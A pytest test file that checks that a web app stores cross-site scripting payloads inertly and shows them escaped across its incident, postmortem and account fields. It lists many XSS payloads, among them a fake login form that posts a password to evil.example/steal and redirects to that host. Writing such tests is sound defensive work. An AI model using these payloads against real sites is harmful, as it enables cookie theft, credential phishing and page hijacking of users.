"""Hostile input, cross-site scripting: every text and Markdown field, over the API and the forms.

Each case is `Stored` (tests/helpers/hostile.py) in a world of its own: the markup reads
back exactly through the API (accounts: from the database), and every page that shows it
shows it escaped, or for Markdown sanitised with the Markdown around it still rendering;
every page met is inert.
"""

from __future__ import annotations

import pytest
from helpers.hostile import Stored, account_field, incident_field, postmortem_field, vector_field

SCRIPT = '<script>alert("xss")</script>'
IMG = "<img src=x onerror=alert(document.cookie)>"
ATTR_BREAKOUT = '"><svg/onload=alert(1)>'
QUOTE_BREAKOUT = "' autofocus onfocus='alert(1)"
TITLE_BREAKOUT = "</title><script>alert(1)</script>"
TEXTAREA_BREAKOUT = "</textarea><script>alert(1)</script>"
IFRAME = '<iframe src="javascript:alert(1)"></iframe>'
STYLED = '<p style="position:fixed;inset:0">log in again</p>'
TEMPLATE = "{{ config.SECRET_KEY }}{{ 7*191 }}{% debug %}"
ENTITIES = "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;b&#x3E;"


def md(attack: str) -> str:
    """A Markdown value: the attack after some Markdown that must still render."""
    return f"**kept**\n\n{attack}"


XSS_CASES = [
    pytest.param(incident_field("title", "api-post"), SCRIPT, id="incident-title-api-post"),
    pytest.param(
        incident_field("title", "form-edit"), TITLE_BREAKOUT, id="incident-title-form-edit"
    ),
    pytest.param(
        incident_field("service", "form-new"), ATTR_BREAKOUT, id="incident-service-form-new"
    ),
    pytest.param(incident_field("service", "api-patch"), IMG, id="incident-service-api-patch"),
    pytest.param(incident_field("team", "api-post"), QUOTE_BREAKOUT, id="incident-team-api-post"),
    pytest.param(incident_field("team", "form-edit"), TEMPLATE, id="incident-team-form-edit"),
    pytest.param(
        incident_field("summary", "api-patch"),
        md("[click me](javascript:alert(1))"),
        id="incident-summary-api-patch-js-link",
    ),
    pytest.param(
        incident_field("summary", "form-new"),
        md('<div onclick="alert(1)" style="color:red">x</div><a href="javascript:alert(1)">y</a>'),
        id="incident-summary-form-new-raw-html",
    ),
    pytest.param(
        incident_field("summary", "api-post"),
        md(
            "<javascript:alert(1)> and [x](vbscript:msgbox(1))"
            " and <scr<script>ipt>alert(1)</script>"
        ),
        id="incident-summary-api-post-autolink-vbscript-nested",
    ),
    pytest.param(vector_field("name", "api-post"), IMG, id="vector-name-api-post"),
    pytest.param(vector_field("name", "form-new"), TEXTAREA_BREAKOUT, id="vector-name-form-new"),
    pytest.param(vector_field("name", "api-patch"), ENTITIES, id="vector-name-api-patch-entities"),
    pytest.param(
        vector_field("description", "api-patch"),
        md("[click me][1]\n\n[1]: javascript:alert(1)"),
        id="vector-description-api-patch-reference-link",
    ),
    pytest.param(
        vector_field("description", "form-edit"),
        md('<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
        id="vector-description-form-edit-iframe",
    ),
    pytest.param(
        vector_field("detection", "api-post"),
        md("[click me](JaVaScRiPt:alert(1)) [again]( javascript:alert(1) )"),
        id="vector-detection-api-post-mixed-case-link",
    ),
    pytest.param(
        vector_field("detection", "form-new"),
        md("<style>body{display:none}</style>" + STYLED),
        id="vector-detection-form-new-style",
    ),
    pytest.param(
        vector_field("mitigation", "api-patch"),
        md("[click me](&#106;avascript:alert(1)) [x](java&#x09;script:alert(1))"),
        id="vector-mitigation-api-patch-entity-link",
    ),
    pytest.param(
        vector_field("mitigation", "form-edit"),
        md("```html\n<script>alert(1)</script>\n```\n\n    <img src=x onerror=alert(1)>"),
        id="vector-mitigation-form-edit-code-block",
    ),
    pytest.param(
        postmortem_field("body", "api"),
        md(
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"
            '<math><a xlink:href="javascript:alert(1)">m</a></math>'
        ),
        id="postmortem-body-api-svg-math",
    ),
    pytest.param(
        postmortem_field("body", "form"),
        md(
            '<form action="https://evil.example/steal"><input name="password">'
            "<button>Sign in</button></form>"
        ),
        id="postmortem-body-form-phishing-form",
    ),
    pytest.param(
        postmortem_field("root_cause", "api"),
        md(
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"
            " ![y](javascript:alert(1))"
        ),
        id="postmortem-root-cause-api-data-link",
    ),
    pytest.param(
        postmortem_field("root_cause", "form"),
        md(
            '<meta http-equiv="refresh" content="0;url=https://evil.example">'
            '<base href="https://evil.example/">'
        ),
        id="postmortem-root-cause-form-meta-refresh",
    ),
    pytest.param(postmortem_field("item_title", "api"), SCRIPT, id="action-item-title-api"),
    pytest.param(postmortem_field("item_title", "form"), IFRAME, id="action-item-title-form"),
    pytest.param(postmortem_field("item_owner", "api"), IMG, id="action-item-owner-api"),
    pytest.param(
        postmortem_field("item_owner", "form"), ATTR_BREAKOUT, id="action-item-owner-form"
    ),
    pytest.param(
        postmortem_field("item_link", "api"),
        'https://example.com/"><script>alert(1)</script>',
        id="action-item-link-api-attribute-breakout",
    ),
    pytest.param(
        postmortem_field("item_link", "form"),
        "https://example.com/'onmouseover='alert(1)'",
        id="action-item-link-form-quote-breakout",
    ),
    pytest.param(account_field("own-name"), IMG, id="user-name-account-form"),
    pytest.param(account_field("invite-name"), SCRIPT, id="user-name-admin-invite"),
    pytest.param(
        account_field("invite-email"),
        '"><svg/onload=alert(1)>@evil.example',
        id="user-email-admin-invite",
    ),
    pytest.param(account_field("token-name"), "</code>" + SCRIPT, id="token-name-account-form"),
]


@pytest.mark.parametrize(("target", "value"), XSS_CASES)
def test_markup_is_stored_inert_and_shown_escaped(world, target, value):
    Stored(target, value)(world)
